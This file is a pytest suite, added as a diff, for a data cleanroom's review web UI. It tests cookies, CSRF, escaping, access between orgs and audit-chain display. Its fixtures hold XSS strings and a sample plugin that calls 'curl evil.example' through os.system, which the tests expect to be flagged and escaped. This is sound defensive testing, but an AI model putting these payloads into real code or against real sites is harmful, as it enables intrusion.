@@ -1,0 +1,360 @@
+"""The review page over real HTTP: login cookie, pages, visibility, escaping, CSRF, logout."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+
+from cleanroom import audit, bundle
+from cleanroom.store import dumps, new_id, now
+
+SCRIPT = '<script>alert("owned")</script>'
+POLICY_TEXT = """[privacy]\nmin_group_size = 10\n\n[outputs]\nallow = ["aggregate", "model"]\n"""
+PLUGIN_CODE = f'''"""Drops rows. {SCRIPT}"""
+import os
+
+def preprocess(frame):
+    os.system("curl evil.example")
+    return frame.dropna()
+'''
+
+
+@dataclass
+class Seeded:
+    tokens: dict[str, str]
+    ana_plugin: str
+    ana_old_plugin: str
+    bob_plugin: str
+    job_id: str
+    release_id: str
+
+
+def add_dataset(room: Any, owner_id: str, name: str, description: str) -> None:
+    schema = {"columns": [{"name": "_pid", "type": "string"}, {"name": "age", "type": "integer"},
+                          {"name": "region", "type": "category", "values": ["north", "south"]}]}
+    mock = [{"_pid": f"p{i}", "age": 30 + i, "region": "north" if i % 2 else "south"} for i in range(5)]
+    mock[0]["region"] = "<i>south</i>"
+    with room.store.tx() as conn:
+        conn.execute("INSERT INTO datasets (name, owner_id, sha256, size, row_count, schema, mock, dropped,"
+                     " description, policy_version, created_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
+                     (name, owner_id, hashlib.sha256(name.encode()).hexdigest(), 4096, 1000, dumps(schema),
+                      dumps(mock), dumps(["email"]), description, 1, now()))
+        conn.execute("INSERT INTO policies (dataset, version, text, policy, sha256, created_at)"
+                     " VALUES (?,?,?,?,?,?)",
+                     (name, 1, POLICY_TEXT, dumps({"privacy": {"min_group_size": 10}}), "ab" * 32, now()))
+        audit.append(conn, actor="bank", action="dataset.created", object_type="dataset", object_id=name,
+                     details={"note": SCRIPT}, ts=now())
+
+
+def add_plugin(room: Any, folder: Path, org_id: str, name: str, version: str, code: str,
+               findings: list[dict[str, Any]]) -> str:
+    folder.mkdir(parents=True)
+    (folder / "cleanroom-plugin.toml").write_text(
+        f'name = "{name}"\nversion = "{version}"\nkind = "preprocess"\nentry = "plugin.py"\n'
+        'description = "drops rows with gaps"\n')
+    (folder / "plugin.py").write_text(code)
+    archive = bundle.pack(folder)
+    manifest = bundle.unpack(archive).manifest
+    plugin_id = room.store.blobs.put_bytes(archive)
+    with room.store.tx() as conn:
+        conn.execute("INSERT INTO plugins (id, name, version, kind, manifest, review, size, submitted_by,"
+                     " created_at) VALUES (?,?,?,?,?,?,?,?,?)",
+                     (plugin_id, name, version, "preprocess", dumps(manifest), dumps({"findings": findings}),
+                      len(archive), org_id, now()))
+    return plugin_id
+
+
+def approve(room: Any, plugin_id: str, owner_id: str, dataset: str) -> None:
+    with room.store.tx() as conn:
+        sha = conn.execute("SELECT sha256 FROM datasets WHERE name = ?", (dataset,)).fetchone()[0]
+        conn.execute("INSERT INTO approvals (id, plugin_id, dataset, policy_version, dataset_sha256, org_id,"
+                     " decision, reason, payload, signature, created_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
+                     (new_id("apr"), plugin_id, dataset, 1, sha, owner_id, "approve", "looks fine", "{}",
+                      "sig", now()))
+
+
+def add_job_and_release(room: Any, analyst_id: str, recipient: str, dataset: str) -> tuple[str, str]:
+    job_id, release_id = new_id("job"), new_id("rel")
+    spec = {"name": "churn-by-region", "inputs": [{"dataset": dataset}], "recipient": recipient}
+    outputs = {"aggregates/by_region.csv": {"sha256": "cd" * 32, "bytes": 120}}
+    manifest = {"job_id": job_id, "outputs": outputs,
+                "checks": [{"name": "min_group_size", "passed": True, "detail": "smallest group 12 >= 10"},
+                           {"name": "never_output", "passed": True, "detail": SCRIPT}],
+                "epsilon_spent": 0.0, "recipient": recipient}
+    with room.store.tx() as conn:
+        t = now()
+        conn.execute("INSERT INTO jobs (id, org_id, name, spec, effective_policy, status, phase, reason,"
+                     " created_at, started_at, finished_at) VALUES (?,?,?,?,?,?,?,?,?,?,?)",
+                     (job_id, analyst_id, spec["name"], dumps(spec), "{}", "succeeded", "release",
+                      "owner-only reason text", t - 60, t - 50, t - 8))
+        rec = conn.execute("SELECT id FROM orgs WHERE name = ?", (recipient,)).fetchone()[0]
+        conn.execute("INSERT INTO releases (id, job_id, recipient_id, manifest, receipt, review_by,"
+                     " created_at) VALUES (?,?,?,?,?,?,?)", (release_id, job_id, rec, dumps(manifest),
+                                                 dumps({"body": {"job_id": job_id}, "signature": "sig"}),
+                                                 dumps([dataset]), t))
+        conn.execute("INSERT INTO release_artifacts (release_id, name, blob, size) VALUES (?,?,?,?)",
+                     (release_id, "aggregates/by_region.csv", "ef" * 32, 180))
+    return job_id, release_id
+
+
+def seed(room: Any, tmp_path: Path) -> Seeded:
+    """Orgs (a data owner, two analysts) and rows for every page, written straight to the store."""
+    bank, ana, bob = room.org("bank", "owner"), room.org("ana-co", "analyst"), room.org("bob-co", "analyst")
+    ids = {name: c.whoami()["id"] for name, c in (("bank", bank), ("ana", ana), ("bob", bob))}
+    add_dataset(room, ids["bank"], "customers", f"Retail customers {SCRIPT}")
+    findings = [{"severity": "blocking", "file": "plugin.py", "line": 5, "rule": "forbidden-call",
+                 "message": "os.system runs a shell <img src=x onerror=alert(1)>"},
+                {"severity": "warning", "file": "plugin.py", "line": 2, "rule": "import",
+                 "message": "imports os"}]
+    old = add_plugin(room, tmp_path / "old", ids["ana"], "drop-gaps", "0.1.0",
+                     "def preprocess(frame):\n    return frame\n", [])
+    approve(room, old, ids["bank"], "customers")
+    new = add_plugin(room, tmp_path / "new", ids["ana"], "drop-gaps", "0.2.0", PLUGIN_CODE, findings)
+    bobs = add_plugin(room, tmp_path / "bob", ids["bob"], "bob-secret-model", "1.0.0",
+                      "def spec():\n    return {}\n", [])
+    job_id, release_id = add_job_and_release(room, ids["ana"], "ana-co", "customers")
+    return Seeded(tokens={"bank": bank.token or "", "ana": ana.token or "", "bob": bob.token or ""},
+                  ana_plugin=new, ana_old_plugin=old, bob_plugin=bobs, job_id=job_id, release_id=release_id)
+
+
+@pytest.fixture
+def seeded(room: Any, tmp_path: Path) -> Seeded:
+    return seed(room, tmp_path)
+
+
+def csrf_of(page: str) -> str:
+    match = re.search(r'name="csrf" value="([^"]+)"', page)
+    assert match, "the form has no CSRF field"
+    return match.group(1)
+
+
+def browser(room: Any) -> httpx.Client:
+    return httpx.Client(base_url=room.url, follow_redirects=False, timeout=30)
+
+
+def login(room: Any, token: str) -> httpx.Client:
+    client = browser(room)
+    form = client.get("/ui/login")
+    r = client.post("/ui/login", data={"token": token, "csrf": csrf_of(form.text)},
+                    headers={"origin": room.url})
+    assert r.status_code == 303, r.text
+    return client
+
+
+PAGES = ["/ui/datasets", "/ui/datasets/customers", "/ui/plugins", "/ui/jobs", "/ui/releases", "/ui/audit"]
+
+
+def test_login_sets_a_strict_httponly_cookie_and_shows_the_pages(room, seeded):
+    client = browser(room)
+    form = client.get("/ui/login")
+    assert form.status_code == 200 and 'name="token"' in form.text
+    r = client.post("/ui/login", data={"token": seeded.tokens["bank"], "csrf": csrf_of(form.text)},
+                    headers={"origin": room.url})
+    assert r.status_code == 303 and r.headers["location"] == "/ui/datasets"
+    cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith("cleanroom_session="))
+    attrs = cookie.lower()
+    assert "httponly" in attrs and "samesite=strict" in attrs and "path=/ui" in attrs
+    assert "secure" not in attrs  # plain HTTP on loopback; HTTPS requests get Secure
+    for path in PAGES:
+        page = client.get(path)
+        assert page.status_code == 200, (path, page.text)
+        assert page.headers["content-type"].startswith("text/html")
+        assert "bank (owner)" in page.text
+    assert "customers" in client.get("/ui/datasets").text
+    detail = client.get("/ui/datasets/customers").text
+    assert "min_group_size = 10" in detail and "p3" in detail and "Mock sample" in detail
+    assert "churn-by-region" in client.get("/ui/jobs").text
+    assert seeded.release_id in client.get("/ui/releases").text
+    assert client.get("/ui").headers["location"] == "/ui/datasets"
+
+
+def test_security_headers_on_every_page(room, seeded):
+    client = login(room, seeded.tokens["bank"])
+    for response in (client.get("/ui/login"), client.get("/ui/audit"), httpx.get(room.url + "/ui/datasets")):
+        headers = response.headers
+        assert headers["content-security-policy"].startswith("default-src 'none'; style-src 'unsafe-inline'")
+        assert headers["x-frame-options"] == "DENY"
+        assert headers["referrer-policy"] == "no-referrer"
+        assert headers["cache-control"] == "no-store"
+        assert "<script" not in response.text.replace("&lt;script", "")
+        assert "http://" not in response.text and "https://" not in response.text  # no external resources
+
+
+@pytest.mark.parametrize("cookie", [None, "crt_0000.nope", "not-a-token", "crt_" + "a" * 16 + ".x y"])
+def test_no_or_wrong_token_gets_the_login_page_and_no_data(room, seeded, cookie):
+    cookies = {"cleanroom_session": cookie} if cookie else {}
+    for path in PAGES + [f"/ui/plugins/{seeded.ana_plugin}", f"/ui/releases/{seeded.release_id}"]:
+        r = httpx.get(room.url + path, cookies=cookies)
+        assert r.status_code == 401
+        assert 'name="token"' in r.text and 'class="error"' in r.text
+        for secret in ("customers", "drop-gaps", "churn-by-region", "org.created", seeded.release_id):
+            assert secret not in r.text
+    if cookie:  # a bad cookie is cleared
+        assert 'cleanroom_session=""' in r.headers.get("set-cookie", "")
+
+
+def test_wrong_token_at_login_is_401_with_an_error(room, seeded):
+    client = browser(room)
+    form = client.get("/ui/login")
+    r = client.post("/ui/login", data={"token": seeded.tokens["bank"] + "x", "csrf": csrf_of(form.text)},
+                    headers={"origin": room.url})
+    assert r.status_code == 401 and "not valid" in r.text and 'name="token"' in r.text
+    assert "cleanroom_session" not in r.headers.get("set-cookie", "")
+    assert client.get("/ui/datasets").status_code == 401
+
+
+def test_the_runner_token_cannot_log_in(room, seeded):
+    client = browser(room)
+    form = client.get("/ui/login")
+    r = client.post("/ui/login", data={"token": room.runner_token, "csrf": csrf_of(form.text)},
+                    headers={"origin": room.url})
+    assert r.status_code == 403 and "cleanroom_session" not in r.headers.get("set-cookie", "")
+    page = httpx.get(room.url + "/ui/datasets", cookies={"cleanroom_session": room.runner_token})
+    assert page.status_code == 403 and "customers" not in page.text
+
+
+def test_an_analyst_does_not_see_another_analysts_plugin(room, seeded):
+    ana = login(room, seeded.tokens["ana"])
+    listing = ana.get("/ui/plugins").text
+    assert "drop-gaps" in listing
+    assert "bob-secret-model" not in listing and seeded.bob_plugin[:16] not in listing
+    other = ana.get(f"/ui/plugins/{seeded.bob_plugin}")
+    assert other.status_code == 404 and "def spec" not in other.text and "bob-secret-model" not in other.text
+    assert ana.get(f"/ui/plugins/{seeded.ana_plugin}").status_code == 200
+    bank = login(room, seeded.tokens["bank"])
+    assert "bob-secret-model" in bank.get("/ui/plugins").text  # owners review every plugin
+
+
+def test_jobs_page_shows_the_reason_to_owners_only(room, seeded):
+    ana = login(room, seeded.tokens["ana"]).get("/ui/jobs").text
+    bank = login(room, seeded.tokens["bank"]).get("/ui/jobs").text
+    assert seeded.job_id in ana and "succeeded" in ana and "42.0 s" in ana
+    assert "owner-only reason text" not in ana and "owner-only reason text" in bank
+
+
+def test_plugin_page_shows_code_with_line_numbers_findings_diff_and_commands(room, seeded):
+    page = login(room, seeded.tokens["bank"]).get(f"/ui/plugins/{seeded.ana_plugin}").text
+    assert '<tr class="line flag-blocking" id="f1-L5"><td class="n">5</td>' in page
+    blocking_row = page.index('class="finding blocking"')
+    assert page.index('id="f1-L5"') < blocking_row < page.index('id="f1-L6"')  # the finding sits under line 5
+    assert 'class="line flag-warning" id="f1-L2"' in page
+    assert "1 blocking finding(s)" in page
+    assert f"cleanroom plugin approve {seeded.ana_plugin} --dataset customers" in page
+    assert "Changes since the last approved version 0.1.0" in page
+    assert '<span class="add">+    os.system(&quot;curl evil.example&quot;)</span>' in page
+    assert "cleanroom-plugin.toml" in page and "drops rows with gaps" in page
+    old = login(room, seeded.tokens["bank"]).get(f"/ui/plugins/{seeded.ana_old_plugin}").text
+    assert "looks fine" in old and "Changes since" not in old
+
+
+def test_attacker_controlled_values_are_escaped(room, seeded):
+    client = login(room, seeded.tokens["bank"])
+    for path in [f"/ui/plugins/{seeded.ana_plugin}", "/ui/datasets/customers", "/ui/audit",
+                 f"/ui/releases/{seeded.release_id}"]:
+        text = client.get(path).text
+        assert SCRIPT not in text and "<img" not in text and "<i>south" not in text
+    code = client.get(f"/ui/plugins/{seeded.ana_plugin}").text
+    assert "&lt;script&gt;alert(&quot;owned&quot;)&lt;/script&gt;" in code
+    assert "os.system runs a shell &lt;img src=x onerror=alert(1)&gt;" in code
+    assert "&lt;i&gt;south&lt;/i&gt;" in client.get("/ui/datasets/customers").text
+    missing = client.get("/ui/datasets/%3Cscript%3E")
+    assert missing.status_code == 404 and "<script>" not in missing.text
+
+
+def test_release_page_shows_checks_state_and_the_approve_command(room, seeded):
+    page = login(room, seeded.tokens["bank"]).get(f"/ui/releases/{seeded.release_id}").text
+    assert "min_group_size" in page and "smallest group 12 &gt;= 10" in page
+    assert "waits for customers" in page
+    assert f"cleanroom release approve {seeded.release_id}" in page
+    assert "aggregates/by_region.csv" in page
+
+
+def test_audit_page_shows_events_and_the_chain_status(room, seeded):
+    client = login(room, seeded.tokens["ana"])
+    page = client.get("/ui/audit").text
+    assert "The hash chain verifies" in page and "org.created" in page and "dataset.created" in page
+    with room.store.tx() as conn:
+        conn.execute("UPDATE audit SET details = ? WHERE seq = 2", (json.dumps({"forged": True}),))
+    broken = client.get("/ui/audit").text
+    assert "BROKEN at event 2" in broken and "changed after it was written" in broken
+
+
+def test_unknown_pages_are_404_html(room, seeded):
+    client = login(room, seeded.tokens["bank"])
+    for path in ("/ui/nothing", "/ui/datasets/nope", "/ui/releases/nope", "/ui/plugins/nope", "/ui/logout"):
+        r = client.get(path)
+        assert r.status_code in (404, 405) and r.headers["content-type"].startswith("text/html"), path
+
+
+def test_cross_origin_posts_are_refused(room, seeded):
+    client = browser(room)
+    token = csrf_of(client.get("/ui/login").text)
+    good = {"token": seeded.tokens["bank"], "csrf": token}
+    attacks = [
+        (good, {"origin": "https://evil.example"}),
+        (good, {"origin": room.url, "sec-fetch-site": "cross-site"}),
+        ({"token": seeded.tokens["bank"]}, {"origin": room.url}),  # no CSRF token
+        ({**good, "csrf": "x" * 43}, {"origin": room.url}),  # a wrong one
+    ]
+    for data, headers in attacks:
+        r = client.post("/ui/login", data=data, headers=headers)
+        assert r.status_code == 403, (data, headers)
+        assert "cleanroom_session" not in r.headers.get("set-cookie", "")
+    crowded = "&".join(f"f{i}=1" for i in range(50))
+    form_type = {"content-type": "application/x-www-form-urlencoded"}
+    r = client.post("/ui/login", content=crowded, headers={"origin": room.url, **form_type})
+    assert r.status_code == 403  # a form with too many fields is no form
+    # without the CSRF cookie (a cross-site form never sends a SameSite=Strict cookie)
+    r = httpx.post(room.url + "/ui/login", data=good, headers={"origin": "null"})
+    assert r.status_code == 403
+    # logout from another site leaves the session alone
+    session = login(room, seeded.tokens["bank"])
+    token = csrf_of(session.get("/ui/datasets").text)
+    r = session.post("/ui/logout", data={"csrf": token}, headers={"origin": "https://evil.example"})
+    assert r.status_code == 403 and session.get("/ui/datasets").status_code == 200
+    # the same-site form posts of a browser that hides its origin (Referrer-Policy no-referrer) pass
+    r = session.post("/ui/logout", data={"csrf": token},
+                     headers={"origin": "null", "sec-fetch-site": "same-origin"})
+    assert r.status_code == 303
+
+
+def test_logout_clears_the_cookie(room, seeded):
+    client = login(room, seeded.tokens["bank"])
+    page = client.get("/ui/datasets")
+    assert page.status_code == 200 and 'action="/ui/logout"' in page.text
+    r = client.post("/ui/logout", data={"csrf": csrf_of(page.text)}, headers={"origin": room.url})
+    assert r.status_code == 303 and r.headers["location"] == "/ui/login"
+    cleared = next(c for c in r.headers.get_list("set-cookie") if c.startswith("cleanroom_session="))
+    assert 'cleanroom_session=""' in cleared and "max-age=0" in cleared.lower()
+    after = client.get("/ui/datasets")
+    assert after.status_code == 401 and "customers" not in after.text
+
+
+def test_a_bearer_header_is_not_needed_and_json_api_is_unchanged(room, seeded):
+    r = httpx.get(room.url + "/datasets", cookies={"cleanroom_session": seeded.tokens["bank"]})
+    assert r.status_code == 401  # the cookie only works for the page, never for the JSON API
+    spec = httpx.get(room.url + "/openapi.json").json()
+    assert not any(p.startswith("/ui") for p in spec["paths"])
+
+
+def test_the_cookies_are_secure_over_https(room, seeded):
+    # uvicorn trusts X-Forwarded-Proto from loopback, as from a TLS-terminating proxy on the host
+    client = browser(room)
+    form = client.get("/ui/login", headers={"x-forwarded-proto": "https"})
+    assert "secure" in form.headers["set-cookie"].lower()
+    csrf = form.cookies["cleanroom_csrf"]
+    data = {"token": seeded.tokens["bank"], "csrf": csrf}
+    https = {"x-forwarded-proto": "https", "cookie": f"cleanroom_csrf={csrf}"}
+    r = httpx.post(room.url + "/ui/login", data=data,
+                   headers={**https, "origin": room.url.replace("http://", "https://")})
+    assert r.status_code == 303
+    assert "secure" in next(c for c in r.headers.get_list("set-cookie") if "cleanroom_session=" in c).lower()
+    mixed = httpx.post(room.url + "/ui/login", data=data, headers={**https, "origin": room.url})
+    assert mixed.status_code == 403  # an http:// origin is another origin than the https:// page
